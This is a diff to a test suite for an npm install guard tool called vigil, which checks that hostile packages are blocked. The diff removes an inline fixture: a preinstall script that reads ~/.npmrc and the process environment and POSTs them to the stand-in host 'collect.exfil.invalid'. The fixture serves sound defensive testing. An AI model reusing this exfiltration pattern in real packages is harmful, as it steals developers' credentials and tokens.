@@ -6,56 +6,19 @@
  */
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { execFile } from 'node:child_process';
-import { createHash } from 'node:crypto';
-import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join, relative, resolve } from 'node:path';
-import { promisify } from 'node:util';
-import { startRegistryServer, tarballPath, type RegistryServer } from '../helpers/registry-server.js';
-import { publish } from '../helpers/publish.js';
+import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { tarballPath } from '../helpers/registry-server.js';
+import { BIN, startGuardWorld, treeHash, type GuardWorld } from '../helpers/guard-world.js';
 
-const run = promisify(execFile);
-const ROOT = resolve(import.meta.dirname, '..', '..');
-const BIN = join(ROOT, 'bin', 'vigil.js');
-
-let reg: RegistryServer;
+let w: GuardWorld;
 let tmp: string;
 let template: string;
 
-function npmEnv(): NodeJS.ProcessEnv {
-  return {
-    ...process.env, CI: '1', NO_COLOR: '1', HOME: tmp,
-    npm_config_userconfig: join(tmp, 'no-user.npmrc'), npm_config_cache: join(tmp, 'npm-cache'),
-    npm_config_update_notifier: 'false', npm_config_audit: 'false', npm_config_fund: 'false',
-    // Where the hostile fixture would leave its mark if any of its code ran.
-    GUARD_TEST_MARKER: join(tmp, 'PWNED'),
-  };
-}
-
-async function sh(cmd: string, args: string[], cwd: string) {
-  try {
-    const r = await run(cmd, args, { cwd, env: npmEnv(), maxBuffer: 64 << 20 });
-    return { code: 0, stdout: r.stdout, stderr: r.stderr };
-  } catch (e) {
-    const err = e as { code: number; stdout: string; stderr: string };
-    return { code: err.code, stdout: err.stdout, stderr: err.stderr };
-  }
-}
-
-const vigil = (cwd: string, args: string[]) => sh(process.execPath, [BIN, 'guard', '--store', join(tmp, 'store.db'), ...args], cwd);
-
-/** sha256 over package.json, the lockfile and every file under node_modules (paths included). */
-function projectHash(dir: string): string {
-  const h = createHash('sha256');
-  const walk = (p: string) => {
-    const st = statSync(p);
-    if (st.isDirectory()) for (const n of readdirSync(p).sort()) walk(join(p, n));
-    else h.update(`${relative(dir, p)}\0`).update(readFileSync(p)).update('\0');
-  };
-  for (const f of ['package.json', 'package-lock.json', 'node_modules']) if (existsSync(join(dir, f))) walk(join(dir, f));
-  return h.digest('hex');
-}
+const vigil = (cwd: string, args: string[]) => w.guard(cwd, args);
+const sh = (cmd: string, args: string[], cwd: string) => w.sh(cmd, args, cwd);
+/** package.json, the lockfile and every file under node_modules. */
+const projectHash = (dir: string) => treeHash(dir, ['package.json', 'package-lock.json', 'node_modules']);
 
 function project(name: string): string {
   const dir = join(tmp, name);
@@ -63,34 +26,20 @@ function project(name: string): string {
   return dir;
 }
 
-const EXFIL = [
-  "const fs = require('fs'); const os = require('os'); const path = require('path'); const https = require('https');",
-  "let npmrc = ''; try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}",
-  'const body = JSON.stringify({ env: process.env, npmrc });',
-  "if (process.env.GUARD_TEST_MARKER) fs.writeFileSync(process.env.GUARD_TEST_MARKER, 'ran');",
-  "const req = https.request({ hostname: 'collect.exfil.invalid', method: 'POST', path: '/k' }); req.on('error', () => {}); req.end(body);",
-].join('\n');
-
 before(async () => {
-  tmp = mkdtempSync(join(tmpdir(), 'vigil-guard-'));
-  reg = await startRegistryServer();
-  await publish(reg, { name: 'base-pkg', version: '1.0.0' });
-  await publish(reg, { name: 'dep-b', version: '2.0.1' });
-  await publish(reg, { name: 'good-pkg', version: '1.2.0', dependencies: { 'base-pkg': '^1.0.0', 'dep-b': '^2.0.0' }, files: { 'index.js': "module.exports = (a, b) => a + b;\n" } });
-  await publish(reg, { name: 'evil-pkg', version: '1.0.0', scripts: { preinstall: 'node preinstall.js' }, bin: { 'evil-pkg': 'cli.js' }, files: { 'preinstall.js': EXFIL, 'cli.js': '#!/usr/bin/env node\nconsole.log("hi");\n' } });
-  await publish(reg, { name: 'scripted-pkg', version: '3.0.0', scripts: { postinstall: 'node setup.js' }, files: { 'setup.js': "console.log('scripted-pkg configured');\n" } });
-  await publish(reg, { name: 'flaky-pkg', version: '1.0.0' });
+  w = await startGuardWorld();
+  tmp = w.tmp;
   template = join(tmp, 'template');
   mkdirSync(template);
   writeFileSync(join(template, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', private: true, dependencies: { 'base-pkg': '^1.0.0' }, scripts: { fails: 'node -e "process.exit(7)"' } }, null, 2));
-  writeFileSync(join(template, '.npmrc'), `registry=${reg.url}\n`);
+  writeFileSync(join(template, '.npmrc'), `registry=${w.reg.url}\n`);
   const r = await sh('npm', ['install'], template);
   assert.equal(r.code, 0, r.stderr);
   assert.ok(existsSync(join(template, 'node_modules', 'base-pkg', 'package.json')));
 });
 
 after(async () => {
-  await reg.close();
+  await w.reg.close();
   rmSync(tmp, { recursive: true, force: true });
 });
 
@@ -105,7 +54,7 @@ describe('vigil guard -- npm (real CLI, real npm, local registry)', () => {
     assert.match(r.stderr, /Blocked:/);
     assert.equal(projectHash(dir), hash);
     assert.equal(existsSync(join(dir, 'node_modules', 'evil-pkg')), false);
-    assert.equal(existsSync(join(tmp, 'PWNED')), false);
+    assert.equal(existsSync(w.marker), false);
   });
 
   test('npm install of a clean package: installs it with its dependencies and exits 0', async () => {
@@ -128,7 +77,20 @@ describe('vigil guard -- npm (real CLI, real npm, local registry)', () => {
     assert.match(r.stderr, /content\/install-exfiltration/);
     assert.doesNotMatch(r.stdout, /hi/);
     assert.equal(projectHash(dir), hash);
-    assert.equal(existsSync(join(tmp, 'PWNED')), false);
+    assert.equal(existsSync(w.marker), false);
+  });
+
+  test('npm ci of a lockfile that gained the hostile package (not yet installed) is blocked; node_modules untouched', async () => {
+    const dir = project('ci');
+    const lock = await sh('npm', ['install', 'evil-pkg', '--package-lock-only', '--ignore-scripts'], dir);
+    assert.equal(lock.code, 0, lock.stderr);
+    const hash = projectHash(dir);
+    const r = await vigil(dir, ['--', 'npm', 'ci']);
+    assert.equal(r.code, 1, r.stderr);
+    assert.match(r.stderr, /1 new or changed package \(1 already in the project/);
+    assert.match(r.stderr, /evil-pkg\s+1\.0\.0 \(new\)\s+BLOCK/);
+    assert.equal(projectHash(dir), hash);
+    assert.equal(existsSync(w.marker), false);
   });
 
   test('the wrapped command runs unchanged and its exit code passes through', async () => {
@@ -165,7 +127,7 @@ describe('vigil guard -- npm (real CLI, real npm, local registry)', () => {
   test('a package that cannot be analysed fails closed by default, and only warns with --no-fail-closed', async () => {
     const closed = project('closed');
     const hash = projectHash(closed);
-    reg.misbehave(tarballPath('flaky-pkg', '1.0.0'), { kind: 'status', status: 404, times: 1 });
+    w.reg.misbehave(tarballPath('flaky-pkg', '1.0.0'), { kind: 'status', status: 404, times: 1 });
     const c = await vigil(closed, ['--', 'npm', 'install', 'flaky-pkg']);
     assert.equal(c.code, 1, c.stderr);
     assert.match(c.stderr, /flaky-pkg\s+1\.0\.0 \(new\)\s+NOT ANALYSED/);
@@ -173,7 +135,7 @@ describe('vigil guard -- npm (real CLI, real npm, local registry)', () => {
     assert.equal(projectHash(closed), hash);
 
     const open = project('open');
-    reg.misbehave(tarballPath('flaky-pkg', '1.0.0'), { kind: 'status', status: 404, times: 1 });
+    w.reg.misbehave(tarballPath('flaky-pkg', '1.0.0'), { kind: 'status', status: 404, times: 1 });
     const o = await vigil(open, ['--no-fail-closed', '--store', join(tmp, 'open.db'), '--', 'npm', 'install', 'flaky-pkg']);
     assert.equal(o.code, 0, o.stderr);
     assert.match(o.stderr, /NOT ANALYSED/);
